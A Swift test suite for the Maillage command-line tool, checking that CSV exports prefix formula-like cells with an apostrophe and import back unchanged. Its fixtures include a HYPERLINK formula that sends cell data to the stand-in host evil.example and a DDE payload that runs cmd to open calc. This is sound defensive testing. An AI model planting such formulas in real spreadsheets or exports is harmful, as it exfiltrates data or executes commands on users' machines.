import Foundation
import MaillageTestSupport
import Testing

/// Issue 20: CSV cells starting with = + - @ are formulas to a spreadsheet. Maillage's CSVs
/// write them with a leading ' and its importers take it off, so exports still import back.
@Suite struct FormulaEscapeTests {
    static let formulaID = #"=HYPERLINK("http://evil.example/?"&A1,"x")"#
    static let formulaName = "@SUM(1+1)*cmd|' /C calc'!A0"

    @Test func formulaCellsAreNeutralisedAndImportBack() throws {
        let scratch = try TemporaryFolder(prefix: "maillage-formula")
        // Kept alive to the end of the test: the folder goes with it.
        defer { withExtendedLifetime(scratch) {} }
        let folder = scratch.url
        func path(_ name: String) -> String { folder.appendingPathComponent(name).path }
        func quoted(_ text: String) -> String { "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        let db = path("t.db")
        #expect(
            try CommandLineTests.run([
                "generate", "--zones", "4", "--population", "4000", "--seed", "1", "--out", db, "-q",
            ]).status == 0)
        try Data(
            "id,name,lat,lon,population\n\(quoted(Self.formulaID)),\(quoted(Self.formulaName)),46.6,-1.25,100\n+A1,-minus,46.7,-1.5,50\n"
                .utf8
        )
        .write(to: URL(fileURLWithPath: path("zones.csv")))
        #expect(try CommandLineTests.run(["import", "zones", path("zones.csv"), "--db", db]).status == 0)
        try Data("origin_id,destination_id,minutes\n\(quoted(Self.formulaID)),Z00001,7\n+A1,Z00002,0\n".utf8).write(
            to: URL(fileURLWithPath: path("m.csv")))
        #expect(try CommandLineTests.run(["import", "matrix", path("m.csv"), "--db", db, "--name", "m"]).status == 0)

        for delimiter in [",", ";"] {
            let out = path("zones-\(delimiter == "," ? "comma" : "semicolon").csv")
            #expect(
                try CommandLineTests.run(["export", "zones", "--db", db, "--out", out, "--delimiter", delimiter]).status
                    == 0)
            let text = try String(contentsOfFile: out, encoding: .utf8)
            // No cell starts with a formula character; numbers keep their sign.
            let cells = text.split(whereSeparator: \.isNewline).flatMap {
                $0.split(separator: Character(delimiter), omittingEmptySubsequences: false)
            }
            let bare = cells.map { $0.hasPrefix("\"") ? String($0.dropFirst()) : String($0) }
            #expect(!bare.contains { ($0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("+")) }, "\(text)")
            #expect(
                text.contains("'=HYPERLINK") && text.contains("'@SUM") && text.contains("'+A1")
                    && text.contains("'-minus"))
            #expect(text.contains("-1.25") && !text.contains("'-1.25"))
            // Imported back: the same ids and names.
            let copy = path("copy-\(delimiter == "," ? "comma" : "semicolon").db")
            #expect(try CommandLineTests.run(["init", copy]).status == 0)
            let imported = try CommandLineTests.run(["import", "zones", out, "--db", copy])
            #expect(imported.status == 0, "\(imported.stderr)")
            let query = "SELECT id || '|' || name FROM zone WHERE id NOT LIKE 'Z0%' ORDER BY id;"
            #expect(try SQLiteShell.run(copy, query) == SQLiteShell.run(db, query))
        }
        // A matrix exported and imported again keeps its escaped ids' pairs.
        #expect(try CommandLineTests.run(["export", "matrix", "--db", db, "--out", path("m-out.csv")]).status == 0)
        let matrixText = try String(contentsOfFile: path("m-out.csv"), encoding: .utf8)
        #expect(matrixText.contains("'=HYPERLINK") && matrixText.contains("'+A1"), "\(matrixText)")
        let reimport = try CommandLineTests.run(["import", "matrix", path("m-out.csv"), "--db", db, "--name", "again"])
        #expect(reimport.status == 0, "\(reimport.stderr)")
        #expect(
            try SQLiteShell.run(
                db,
                "SELECT sum(pairs) FROM travel_row JOIN travel_matrix ON travel_matrix.id = matrix_id WHERE name = 'again';"
            ) == "2")
        // Results files too.
        #expect(
            try CommandLineTests.run(["access", "nearest", "--db", db, "--kind", "gp", "--out", path("n.csv"), "-q"])
                .status == 0)
        let results = try String(contentsOfFile: path("n.csv"), encoding: .utf8)
        #expect(results.contains("\"'=HYPERLINK") && !results.contains("\n\"=HYPERLINK"), "\(results)")
    }
}
